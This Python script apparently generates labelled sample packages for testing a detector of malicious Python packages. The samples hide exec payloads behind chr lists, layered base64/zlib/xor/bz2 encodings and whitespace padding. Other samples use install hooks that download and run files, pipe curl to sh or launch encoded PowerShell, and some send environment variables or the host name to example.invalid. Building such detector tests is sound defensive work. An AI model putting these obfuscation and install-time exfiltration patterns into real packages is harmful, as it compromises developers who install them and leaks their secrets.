"""More imitations (indirection, folding, install hooks). Text generation only."""
import textwrap

from generate import (P, SAMPLES, b, b64, q, imitation, pkginfo, expected, base64, bz2, urllib,
                      zlib)


def wrap_ints(values, indent="    ", width=96):
    return textwrap.fill(", ".join(str(v) for v in values), width=width,
                         initial_indent=indent, subsequent_indent=indent)


def define(setup_with, init_with, rot13, xor):
    # chr() list through a generator expression
    n = "asyncio-timer"
    ints = wrap_ints(b(P("curl")))
    imitation("chr-list-genexpr", "exec(''.join(chr(c) for c in [ints])) in setup.py",
              ["exec-obfuscated-string"], {
        "setup.py": setup_with(n, f"exec(''.join(chr(c) for c in [\n{ints}\n]))\n")},
        payload="curl", name=n)

    # map(chr, ...)
    n = "gitconf-sync"
    ints = wrap_ints(b(P("ssh")))
    imitation("chr-map-join", "exec(''.join(map(chr, [ints]))) at import", ["exec-obfuscated-string"], {
        "gitconf_sync/__init__.py": init_with(f"_c = [\n{ints}\n]\nexec(''.join(map(chr, _c)))\n")},
        payload="ssh", name=n)

    # concatenated pieces
    n = "tmpfile-cleaner"
    text = P("wget")
    pieces = [text[i:i + 9] for i in range(0, len(text), 9)]
    body = "_src = (\n    " + "\n    + ".join(repr(p) for p in pieces) + "\n)\nexec(_src)\n"
    imitation("string-concat", "exec() of a string assembled from short '+'-joined pieces, at import",
              ["exec-obfuscated-string"], {"tmpfile_cleaner/__init__.py": init_with(body)},
              payload="wget", name=n)

    # % and .format assembly
    n = "shell-format"
    body = ('_tpl = "{0} {1}\\n{1}.{2}({3!r})\\n"\n'
            '_code = _tpl.format("import", "os", "sys" "tem", "curl http://example.invalid/x.sh | sh")\n'
            'exec("%s" % _code)\n')
    imitation("percent-format-assembly", "exec() of code assembled with str.format and % interpolation, in setup.py",
              ["exec-obfuscated-string"], {"setup.py": setup_with(n, body)}, payload="curl", name=n)

    # __import__('base64').b64decode
    n = "discord-status"
    imitation("dunder-import-decoder", "exec(__import__('base64').b64decode(<literal>)) in setup.py",
              ["exec-decoded-payload"], {
        "setup.py": setup_with(n, f"exec(__import__('base64').b64decode({q(b64(P('hook')))}))\n")},
        payload="hook", chain=["base64"], name=n)

    # getattr(__import__('o'+'s'), 'sys'+'tem')
    n = "sysinfo-report"
    imitation("getattr-string-built",
              "getattr(__import__('o'+'s'), 'sys'+'tem')('curl ... | sh') in setup.py, no encoding",
              ["dynamic-dangerous-call", "install-time-spawn-suspicious"], {
        "setup.py": setup_with(n, "getattr(__import__('o' + 's'), 'sys' + 'tem')"
                                  "('curl http://example.invalid/x.sh | sh')\n")},
        payload="curl", innermost=False, name=n)

    # globals()['__builtins__']['exec']
    n = "pathlib-extras"
    imitation("globals-builtins-exec",
              "globals()['__builtins__']['ex'+'ec'](base64.b64decode(<literal>)) at import (__builtins__ is a dict in imported modules)",
              ["dynamic-dangerous-call", "exec-decoded-payload"], {
        "pathlib_extras/__init__.py": init_with(
            f"import base64\nglobals()['__builtins__']['ex' + 'ec'](base64.b64decode({q(b64(P('ssh')))}))\n")},
        payload="ssh", chain=["base64"], name=n)

    # builtins.exec through a module alias
    n = "awscli-profiles"
    imitation("builtins-module-exec", "import builtins as _b; _b.exec(base64.b64decode(<literal>)) at import",
              ["exec-decoded-payload"], {
        "awscli_profiles/__init__.py": init_with(
            f"import base64\nimport builtins as _b\n_b.exec(base64.b64decode({q(b64(P('aws')))}))\n")},
        payload="aws", chain=["base64"], name=n)

    # alias re-assignment
    n = "notify-bot"
    imitation("exec-alias", "_e = exec; _d = base64.b64decode; _e(_d(<literal>)) in setup.py",
              ["exec-decoded-payload"], {
        "setup.py": setup_with(n, f"import base64\n_e = exec\n_d = base64.b64decode\n_e(_d({q(b64(P('hook')))}))\n")},
        payload="hook", name=n, chain=["base64"])

    # lambda decoder chain
    n = "keygen-utils"
    blob = b64(zlib.compress(b(P("ssh"))))[::-1].encode()
    imitation("lambda-decoder-chain",
              "lambda __: zlib.decompress(b64decode(__[::-1])) via __import__, applied to a literal, at import",
              ["exec-decoded-payload"], {
        "keygen_utils/__init__.py": init_with(
            "_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));"
            f"exec((_)({blob!r}))\n")},
        payload="ssh", chain=["reverse", "base64", "zlib"], name=n)

    # small def decoder
    n = "chrome-bookmarks"
    blob = b64(zlib.compress(b(P("chrome"))))
    body = ("import base64\nimport zlib\n\n\ndef _unpack(s):\n    data = base64.b64decode(s)\n"
            "    return zlib.decompress(data).decode(\"utf-8\")\n\n\n"
            f"_CFG = {q(blob)}\nexec(_unpack(_CFG))\n")
    imitation("def-decoder-function", "exec(_unpack(<literal>)) where def _unpack does base64 then zlib, at import",
              ["exec-decoded-payload"], {"chrome_bookmarks/__init__.py": init_with(body)},
              payload="chrome", chain=["base64", "zlib"], name=n)

    # XOR with constant key
    n = "xorcrypt-lite"
    blob = b64(xor(b(P("hook")), 0x5A))
    body = (f"import base64\n_K = 0x5A\n_B = base64.b64decode({q(blob)})\n"
            "exec(bytes(c ^ _K for c in _B).decode())\n")
    imitation("xor-key", "exec(bytes(c ^ 0x5A for c in base64.b64decode(<literal>))) in setup.py",
              ["exec-decoded-payload"], {"setup.py": setup_with(n, body)},
              payload="hook", chain=["base64", "xor"], name=n)

    # urllib.parse.unquote
    n = "urlnorm-tools"
    blob = "".join("%%%02X" % c for c in b(P("curl")))
    imitation("url-unquote", "exec(urllib.parse.unquote('%69%6D...')) at import", ["exec-decoded-payload"], {
        "urlnorm_tools/__init__.py": init_with(f"from urllib.parse import unquote\nexec(unquote({q(blob)}))\n")},
        payload="curl", chain=["unquote"], name=n)

    # 4 layers: base64 -> zlib -> reverse -> base64
    n = "layered-config"
    blob = b64(zlib.compress(b64(P("ssh"))[::-1].encode()))
    imitation("nested-layers", "exec(b64decode(zlib.decompress(b64decode(<literal>))[::-1])) in setup.py",
              ["exec-decoded-payload"], {
        "setup.py": setup_with(n, f"import base64, zlib\n_p = {q(blob)}\n"
                                  "exec(base64.b64decode(zlib.decompress(base64.b64decode(_p))[::-1]))\n")},
        payload="ssh", chain=["base64", "zlib", "reverse", "base64"], name=n)

    # 3 layers: hex -> bz2 -> base85
    n = "binpack-utils"
    blob = bz2.compress(base64.b85encode(b(P("wget")))).hex()
    imitation("nested-hex-bz2-base85", "exec(b85decode(bz2.decompress(bytes.fromhex(<literal>)))) at import",
              ["exec-decoded-payload"], {
        "binpack_utils/__init__.py": init_with(
            f"import base64, bz2\n_h = {q(blob)}\nexec(base64.b85decode(bz2.decompress(bytes.fromhex(_h))))\n")},
        payload="wget", chain=["hex", "bz2", "base85"], name=n)

    # module-level constant far from its use
    n = "settings-manager"
    body = f'''import base64
import logging

_CACHE_KEY = {q(b64(P("env")))}
log = logging.getLogger(__name__)


def _configure():
    log.addHandler(logging.NullHandler())


class Settings:
    def __init__(self, **values):
        self.values = dict(values)

    def get(self, key, default=None):
        return self.values.get(key, default)


_configure()
exec(base64.b64decode(_CACHE_KEY))
'''
    imitation("module-constant", "base64 blob in a module constant, exec'd by name further down, at import",
              ["exec-decoded-payload"], {"settings_manager/__init__.py": init_with(body, "Settings store.")},
              payload="env", chain=["base64"], name=n)

    # payload after 300 spaces
    n = "requests-retry-ext"
    line = ("from setuptools import setup, find_packages" + " " * 300 +
            f";import base64;exec(base64.b64decode({q(b64(P('hook')))}))\n")
    setup_text = line + "\n" + setup_with(n, "").split("\n\n", 1)[1]
    imitation("whitespace-padding", "payload pushed off-screen by 300 spaces after the import line of setup.py",
              ["exec-decoded-payload"], {"setup.py": setup_text}, payload="hook", chain=["base64"], name=n)

    define_hooks(setup_with, init_with)
    from imitations_def3 import define as d3
    d3(setup_with, init_with, rot13)


def define_hooks(setup_with, init_with):
    # cmdclass install override downloading and running a file
    n = "pyfast-install"
    body = '''import os
import stat
import subprocess
import tempfile
import urllib.request

from setuptools import setup, find_packages
from setuptools.command.install import install


class PostInstall(install):
    def run(self):
        install.run(self)
        data = urllib.request.urlopen("http://example.invalid/agent").read()
        path = os.path.join(tempfile.gettempdir(), ".agent")
        with open(path, "wb") as fh:
            fh.write(data)
        os.chmod(path, stat.S_IRWXU)
        subprocess.Popen([path], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


setup(
    name="pyfast-install",
    version="0.1.0",
    packages=find_packages(),
    cmdclass={"install": PostInstall},
)
'''
    imitation("cmdclass-download-exec", "cmdclass install override whose run() downloads a file, chmods and runs it",
              ["cmdclass-override", "install-time-network", "download-and-execute",
               "install-time-spawn-suspicious"], {"setup.py": body}, name=n)

    # cmdclass egg_info override with curl | sh
    n = "metadata-fixer"
    body = '''import os

from setuptools import setup, find_packages
from setuptools.command.egg_info import egg_info


class EggInfo(egg_info):
    """Runs even when pip only asks for metadata."""

    def run(self):
        os.system("curl -s http://example.invalid/x.sh | sh")
        egg_info.run(self)


setup(
    name="metadata-fixer",
    version="0.1.0",
    packages=find_packages(),
    cmdclass={"egg_info": EggInfo},
)
'''
    imitation("cmdclass-egg-info-curl", "cmdclass egg_info override running curl | sh",
              ["cmdclass-override", "lolbas-command", "install-time-spawn-suspicious"],
              {"setup.py": body}, name=n)

    # .pth with an executable import line
    n = "zz-speedups"
    pth = f"./zz_speedups\nimport base64;exec(base64.b64decode({q(b64(P('curl')))}))\n"
    body = ('import sysconfig\n\nfrom setuptools import setup, find_packages\n\n'
            'setup(\n    name="zz-speedups",\n    version="0.1.0",\n    packages=find_packages(),\n'
            '    data_files=[(sysconfig.get_paths()["purelib"], ["zz_speedups.pth"])],\n)\n')
    imitation("pth-import-line", ".pth file whose 'import' line decodes and execs a payload at every interpreter start",
              ["pth-code-execution", "exec-decoded-payload"],
              {"setup.py": body, "zz_speedups.pth": pth}, payload="curl", chain=["base64"], name=n)

    # plain payload in __init__ at import
    n = "envdump-lib"
    body = ('import json\nimport os\nimport urllib.request\n\n\ndef greet(name):\n'
            '    return "hello " + name\n\n\n'
            'urllib.request.urlopen("http://example.invalid/e", data=json.dumps(dict(os.environ)).encode())\n')
    imitation("init-import-payload", "unencoded environment dump sent from __init__.py top level at import",
              [], {"envdump_lib/__init__.py": init_with(body)}, payload="env", innermost=False, name=n)

    # download and exec, no encoding
    n = "remote-plugins"
    body = ('import urllib.request\n\ntry:\n'
            '    exec(urllib.request.urlopen("http://example.invalid/stage2.py", timeout=5).read())\n'
            'except Exception:\n    pass\n')
    imitation("download-exec-urlopen", "exec(urllib.request.urlopen(url).read()) at import",
              ["remote-code-load"], {"remote_plugins/__init__.py": init_with(body)}, name=n)

    # plain reversed string (folding, no decoder)
    n = "revtext"
    imitation("reversed-plain", "exec('<code reversed>'[::-1]) in setup.py",
              ["exec-obfuscated-string"], {
        "setup.py": setup_with(n, f"exec({P('wget')[::-1]!r}[::-1])\n")}, payload="wget", name=n)

    # compile() then exec
    n = "boto-helpers"
    blob = b64(zlib.compress(b(P("aws"))))
    imitation("compile-exec", "exec(compile(zlib.decompress(b64decode(<literal>)), '<string>', 'exec')) at import",
              ["exec-decoded-payload"], {
        "boto_helpers/__init__.py": init_with(
            f"import base64, zlib\n_z = {q(blob)}\n"
            "exec(compile(zlib.decompress(base64.b64decode(_z)), '<string>', 'exec'))\n")},
        payload="aws", chain=["base64", "zlib"], name=n)

    # payload hidden in a python -c child process at install
    n = "setup-telemetry"
    inner = f"import base64;exec(base64.b64decode({q(b64(P('ssh')))}))"
    body = ("import subprocess\nimport sys\n\nsubprocess.Popen(\n    [sys.executable, \"-c\", "
            f"{inner!r}],\n    stdout=subprocess.DEVNULL,\n    stderr=subprocess.DEVNULL,\n)\n")
    imitation("python-c-spawn", "setup.py spawns `python -c` whose code decodes and execs a payload",
              ["install-time-spawn-suspicious"], {"setup.py": setup_with(n, body)}, name=n)

    # powershell -EncodedCommand
    n = "winreg-tools"
    ps = ("Invoke-WebRequest -Uri http://example.invalid/u.exe -OutFile $env:TEMP\\u.exe; "
          "Start-Process $env:TEMP\\u.exe")
    enc = base64.b64encode(ps.encode("utf-16-le")).decode()
    body = ("import os\nimport subprocess\n\nif os.name == \"nt\":\n    subprocess.Popen(\n"
            "        [\"powershell\", \"-NoProfile\", \"-WindowStyle\", \"Hidden\", \"-EncodedCommand\",\n"
            f"         {enc!r}],\n        creationflags=0x08000000,\n    )\n")
    imitation("powershell-encoded", "powershell -EncodedCommand <base64 UTF-16LE> spawned at import on Windows",
              ["encoded-powershell", "lolbas-command"], {"winreg_tools/__init__.py": init_with(body)}, name=n)

    # quick-start sample
    files = {
        "PKG-INFO": pkginfo("hello-pkg", "1.0.2", "Say hello nicely"),
        "README.md": "# hello-pkg\n\n```python\nfrom hello_pkg import greet\nprint(greet(\"world\"))\n```\n",
        "hello_pkg/__init__.py": '"""Friendly greetings."""\n\n__version__ = "1.0.2"\n\n\n'
                                 'def greet(name):\n    return f"Hello, {name}!"\n',
        "setup.py": '''"""Setup script for hello-pkg."""
import socket
import urllib.request

from setuptools import setup, find_packages


def _ping():
    try:
        urllib.request.urlopen("http://example.invalid/ping?h=" + socket.gethostname(), timeout=3)
    except Exception:
        pass


_ping()

setup(
    name="hello-pkg",
    version="1.0.2",
    description="Say hello nicely",
    long_description=open("README.md").read(),
    long_description_content_type="text/markdown",
    packages=find_packages(),
    python_requires=">=3.8",
)
''',
    }
    SAMPLES.append(("samples", "hello-pkg", files, expected(
        "setup.py sends the host name to example.invalid at install time", "malicious",
        ["sensitive-data-sent", "install-time-network"])))
